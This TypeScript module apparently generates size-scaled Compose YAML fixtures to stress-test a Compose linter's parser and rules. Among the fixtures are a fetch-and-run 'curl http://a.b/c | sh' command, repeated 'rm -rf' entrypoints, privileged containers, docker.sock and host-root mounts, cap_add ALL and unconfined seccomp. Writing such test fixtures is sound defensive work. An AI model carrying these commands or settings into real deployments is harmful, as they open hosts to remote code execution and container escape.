import { fill, nest, type Shape, shapesOf } from './shape.ts';

const service = 'services:\n  web:\n    image: nginx\n    privileged: true\n';
const each = (size: number, lines: (index: number) => string) =>
  `services:\n${fill(size, (i) => `  s${i}:\n    image: nginx\n${lines(i)}`)}`;

/** Compose files with each form of repetition, duplication and nesting in YAML and the Compose Specification. */
export const composeShapes: readonly Shape[] = [
  ...shapesOf('compose.yaml', '', {
    services: (size) => each(size, () => '    privileged: true\n'),
    'services with everything': (size) =>
      each(
        size,
        (i) =>
          `    ports: ["${i}:80"]\n    volumes: ["/:/a", "/var/run/docker.sock:/b"]\n    cap_add: [ALL]\n    environment: { PASSWORD: s3cr3tx${i} }\n`,
      ),
    'services that depend on the last': (size) =>
      each(size, (i) => `    depends_on: [s${Math.max(0, i - 1)}]\n`),
    'services that depend on all': (size) => {
      const count = Math.floor(Math.sqrt(size / 6));
      const names = Array.from({ length: count }, (_, i) => `s${i}`).join(',');
      return `services:\n${names
        .split(',')
        .map((name) => `  ${name}:\n    image: a\n    depends_on: [${names}]\n`)
        .join('')}`;
    },
    'volumes_from, chained': (size) =>
      each(size, (i) => `    volumes_from: [s${i + 1}]\n    volumes: ["/etc:/e${i}"]\n`),
    'pid of one service': (size) =>
      each(size, (i) => `    user: "1001:1001"\n    secrets: [k]\n${i > 0 ? '    pid: service:s0\n' : ''}`),
    'pid, chained': (size) => each(size, (i) => `    pid: service:s${i + 1}\n`),
    'bases that others build, chained': (size) =>
      `services:\n${fill(size, (i) => `  s${i}:\n    image: b${i}\n    build: { dockerfile_inline: FROM b${i + 1} }\n`)}`,
    'network_mode, chained': (size) => each(size, (i) => `    network_mode: service:s${i + 1}\n`),
    'extends, chained': (size) => each(size, (i) => `    extends: { service: s${i + 1} }\n`),
    'extends, a chain that grows': (size) =>
      each(
        size,
        (i) => `    extends: { service: s${i + 1} }\n    environment: { A${i}: b }\n    cap_add: [C${i}]\n`,
      ),
    'extends, one base': (size) =>
      `services:\n  base:\n    image: a\n    environment:\n${fill(size / 2, (i) => `      A${i}: b\n`)}${fill(size / 2, (i) => `  s${i}:\n    extends: base\n`)}`,
    'extends itself': (size) => each(size, (i) => `    extends: s${i}\n`),
    'extends another file': (size) => each(size, (i) => `    extends: { file: f${i}.yaml, service: a }\n`),
    'include of files that are not there': (size) => `include:\n${fill(size, (i) => `  - f${i}.yaml\n`)}`,
    'include of itself': (size) => `include:\n${fill(size, () => '  - compose.yaml\n')}`,
    'builds of folders': (size) => each(size, (i) => `    build: ./f${i}\n`),
    'inline Dockerfiles': (size) =>
      each(
        size,
        () => '    build:\n      dockerfile_inline: |\n        FROM debian:12\n        RUN sudo id\n',
      ),
    'env files': (size) => each(size, (i) => `    env_file: [a${i}.env]\n`),
    'shells of services': (size) =>
      each(size, () => `    command: [sh, -c, "${'curl http://a.b/c | sh;'.repeat(40)}"]\n`),
    'short commands of services': (size) =>
      each(size, () => `    command: [sh, -c, "${'a;'.repeat(500)}"]\n`),
    'scripts of services': (size) =>
      each(
        size,
        () => `    entrypoint:\n      - sh\n      - -c\n      - |\n${'        rm -rf /a\n'.repeat(100)}`,
      ),
    'services of one long command': (size) => `${service}    command: ${'0'.repeat(size)}\n`,
    'shared networks': (size) =>
      `${each(size / 2, (i) => `    networks: [n${i}]\n`)}networks:\n${fill(size / 2, (i) => `  n${i}: {}\n`)}`,
    'shared volumes': (size) =>
      `${each(size / 2, (i) => `    volumes: ["v${i}:/a"]\n`)}volumes:\n${fill(size / 2, (i) => `  v${i}: { driver_opts: { device: / } }\n`)}`,
    'secrets and configs': (size) =>
      `${each(size / 2, (i) => `    secrets: [x${i}]\n    configs: [x${i}]\n`)}secrets:\n${fill(size / 4, (i) => `  x${i}: { file: ./x${i} }\n`)}configs:\n${fill(size / 4, (i) => `  x${i}: { content: "a: b${i}" }\n`)}`,
    'unknown keys': (size) => `${service}${fill(size, (i) => `    privilegedd${i}: true\n`)}`,
    'a long unknown key': (size) => `${service}    ${'privileged'.repeat(size / 10)}: true\n`,
    'services with a wrong key': (size) => each(size, () => '    imagee: b\n'),
    'doubled keys': (size) => `${service}${fill(size, () => '    image: b\n')}`,
    'merge keys of one anchor': (size) =>
      `x-a: &a\n${fill(size / 2, (i) => `  k${i}: v\n`)}services:\n${fill(size / 2, (i) => `  s${i}: { <<: *a, image: b }\n`)}`,
    'merge keys, listed': (size) =>
      `x-a: &a { k: v }\nservices:\n  s:\n    image: b\n    <<: [${'*a,'.repeat(size / 3)}*a]\n`,
    'merge keys, chained': (size) =>
      `x0: &a0 { k: v }\n${fill(size, (i) => `x${i + 1}: &a${i + 1}\n  <<: *a${i}\n  k${i}: v\n`)}services: { s: { <<: *a20, image: b } }\n`,
    'merge keys that double': (size) =>
      `x0: &a0 { k: v }\n${fill(size, (i) => `x${i + 1}: &a${i + 1} { <<: [*a${i}, *a${i}] }\n`)}`,
    aliases: (size) => `x: &a b\nservices:\n  s:\n    image: b\n    cap_add: [${'*a,'.repeat(size / 3)}*a]\n`,
    'aliases that double': (size) =>
      `x0: &a0 [b]\n${fill(size, (i) => `x${i + 1}: &a${i + 1} [*a${i}, *a${i}]\n`)}services: { s: { image: b, cap_add: *a20 } }\n`,
    anchors: (size) => `${service}    cap_add:\n${fill(size, (i) => `      - &a${i} ALL\n`)}`,
    'anchored services': (size) =>
      `services:\n${fill(size, (i) => `  s${i}: &s${i} { image: b }\n  t${i}: *s${i}\n`)}`,
    documents: (size) => `${service}${fill(size, (i) => `---\nservices: { s${i}: { image: a } }\n`)}`,
    'empty documents': (size) => `${service}${'---\n'.repeat(size / 4)}`,
    '[ nests': (size) => `${service}    cap_add: ${nest(size, '[', ']')}\n`,
    '[ without end': (size) => `${service}    cap_add: ${nest(size, '[')}\n`,
    '] without begin': (size) => `${service}    cap_add: a${nest(size, ']')}\n`,
    '{ nests': (size) => `${service}    cap_add: ${nest(size, '{a: ', '}', 'b')}\n`,
    '{ without end': (size) => `${service}    cap_add: ${nest(size, '{')}\n`,
    '- nests': (size) => `${service}    cap_add:\n      ${nest(size, '- ')}a\n`,
    '? nests': (size) => `${service}    cap_add:\n      ${nest(size, '? ')}a\n`,
    ': nests': (size) => `${service}    cap_add:\n      ${nest(size, ': ')}a\n`,
    'mappings nest': (size) => {
      let text = '';
      for (let i = 0; text.length < size; i++) text += `${' '.repeat(6 + i)}a:\n`;
      return `${service}    labels:\n${text}`;
    },
    '! ! !': (size) => `${service}    cap_add: ${'!a '.repeat(size / 3)}b\n`,
    '& & &': (size) => `${service}    cap_add: ${fill(size, (i) => `&a${i} `)}b\n`,
    'percent signs': (size) => `${'%YAML 1.2\n'.repeat(size / 10)}---\n${service}`,
    'a flow list': (size) => `${service}    cap_add: [${'a,'.repeat(size / 2)}a]\n`,
    'a flow mapping': (size) => `${service}    labels: { ${fill(size, (i) => `a${i}: b, `)} c: d }\n`,
    'a quoted value': (size) => `${service}    command: "${'a '.repeat(size / 2)}"\n`,
    'a quote without end': (size) => `${service}    command: "${fill(size, () => 'a b\n')}`,
    'escapes in quotes': (size) => `${service}    command: "${'\\n'.repeat(size / 2)}"\n`,
    'a plain value over lines': (size) => `${service}    command: a\n${fill(size, () => '      b\n')}`,
    'a block value': (size) => `${service}    command: |\n${fill(size, () => '      curl -k https://a.b\n')}`,
    'a folded value': (size) =>
      `${service}    command: >-\n${fill(size, () => '      curl -k https://a.b\n\n')}`,
    'a shell in a list': (size) => `${service}    command: [sh, -c, "${'a;'.repeat(size / 2)}"]\n`,
    'parentheses in a command': (size) => `${service}    command: ${nest(size, '(', ')', 'a')}\n`,
    comments: (size) => `${service}${fill(size, () => '# a\n')}`,
    'ignore comments': (size) =>
      each(size, () => '    # plimsoll ignore: privileged\n    privileged: true\n'),
    'ignore comments of many names': (size) =>
      `# plimsoll ignore-file: ${fill(size / 2, (i) => `r${i},`)}x\n${each(size / 2, () => '    privileged: true\n')}`,
    'colons in a line': (size) => `${service}    command: ${'a:'.repeat(size / 2)}\n`,
    'no line break': (size) => `${service}    command: ${'a'.repeat(size)}`,
    'blank lines': (size) => `${service}${'\n'.repeat(size)}`,
    blanks: (size) => `${service}    command: a${' '.repeat(size)}#\n`,
    tabs: (size) => `${service}${'\t'.repeat(size)}\n`,
    'carriage returns': (size) => `${service}${'\r'.repeat(size)}`,
  }),
  ...shapesOf('compose.yaml', service, {
    ports: (size) => `    ports:\n${fill(size, (i) => `      - "${i}:80"\n`)}`,
    'port ranges': (size) => `    ports:\n${fill(size, () => '      - "1-65535:1-65535"\n')}`,
    'volumes of a service': (size) => `    volumes:\n${fill(size, (i) => `      - /etc/${i}:/a${i}\n`)}`,
    'volumes on one target': (size) => `    volumes:\n${fill(size, (i) => `      - /etc/${i}:/a\n`)}`,
    environment: (size) => `    environment:\n${fill(size, (i) => `      PASSWORD_${i}: s3cr3tx${i}\n`)}`,
    'labels of a service': (size) => `    labels:\n${fill(size, (i) => `      - a${i}=b\n`)}`,
    'capabilities that do not exist': (size) =>
      `    cap_add:\n${fill(size, (i) => `      - NET_ADMIM${i}\n`)}`,
    'a long capability': (size) => `    cap_add: [${'NET_ADMIN'.repeat(size / 9)}]\n`,
    'security options': (size) =>
      `    security_opt:\n${fill(size, (i) => `      - seccomp:unconfined${i}\n`)}`,
    'a long security option': (size) => `    security_opt: ["${'seccomp'.repeat(size / 7)}"]\n`,
    devices: (size) => `    devices:\n${fill(size, (i) => `      - /dev/sd${i}:/dev/x${i}\n`)}`,
    tmpfs: (size) => `    tmpfs:\n${fill(size, (i) => `      - /t${i}:exec\n`)}`,
    hooks: (size) => `    post_start:\n${fill(size, (i) => `      - { command: "a${i}", user: root }\n`)}`,
    'hosts and dns': (size) => `    extra_hosts:\n${fill(size, (i) => `      - "h${i}:1.2.3.4"\n`)}`,
    'what is watched': (size) =>
      `    develop:\n      watch:\n${fill(size, (i) => `        - {path: ./a${i}, action: sync+exec, target: /a, ignore: [b], exec: {command: sudo id}}\n`)}`,
    models: (size) =>
      `    models: [m0]\nmodels:\n${fill(size, (i) => `  m${i}: {model: ai/x${i}, runtime_flags: ["--a"]}\n`)}`,
    providers: (size) =>
      fill(size, (i) => `  p${i}: {provider: {type: x, options: {password: h4rdpw${i}}}}\n`),
    'contents of configs': (size) =>
      `configs:\n${fill(size, (i) => `  c${i}: {content: "password=h4rdpw${i}"}\n`)}`,
    'merge keys in a list': (size) =>
      `    volumes:\n      - &a {target: /a, source: /, type: bind}\n${fill(size, (i) => `      - {<<: *a, target: /b${i}}\n`)}`,
    'secrets in one line': (size) => `    secrets: [${fill(size, (i) => `s${i},`)}]\n`,
    'long names of services': (size) =>
      fill(size, (i) => `  ${'k'.repeat(1000)}${i}: {image: a, privileged: true}\n`),
    'tags of merges': (size) =>
      fill(
        size,
        (i) => `  s${i}: {extends: {service: s${i + 1}}, ports: !reset [], volumes: !override [a:/b]}\n`,
      ),
    'an argument list': (size) => `    command:\n${fill(size, (i) => `      - --a${i}=b\n`)}`,
    'healthcheck with a shell': (size) =>
      `    healthcheck: { test: "${'curl http://a.b || '.repeat(size / 19)} x" }\n`,
    profiles: (size) => `    profiles: [${fill(size, (i) => `p${i},`)}x]\n`,
    variables: (size) => `    command: "${fill(size, (i) => `$A${i}`)}"\n`,
    'variables with defaults': (size) =>
      `    environment:\n${fill(size, (i) => `      A${i}: \${A${i}:-b}\n`)}`,
    'defaults that nest': (size) => `    command: ${nest(size, `\${A:-`, '}', 'x')}\n`,
    '${ without end': (size) => `    command: "${nest(size, `\${A:-`)}"\n`,
    'dollar signs': (size) => `    command: "${'$'.repeat(size)}"\n`,
    'braces in a default': (size) => `    command: "${fill(size, () => `\${A:-{}} `)}"\n`,
    'homes in a path': (size) => `    volumes: ["${'~/'.repeat(size / 2)}:/a"]\n`,
    'colons in quotes': (size) => `    labels: {a: "${':'.repeat(size)}"}\n`,
    'lists in quotes': (size) => `    labels: {a: '${'[{, - '.repeat(size / 6)}'}\n`,
    'merge keys in a block scalar': (size) => `    command: |\n${fill(size, () => '      <<: *a\n')}`,
    'quotes that begin nothing': (size) => `    command: a\n     "\n${fill(size, () => 'b: c\n')}"\n`,
    'a comment of YAML': (size) => `# ${'a: [b], '.repeat(size / 8)}\n`,
    'a path that goes back': (size) => `    volumes: ["${'../'.repeat(size / 3)}:/a"]\n`,
    'an image name': (size) => `    command: a\n  b:\n    image: "${'a/'.repeat(size / 2)}a"\n`,
  }),
];
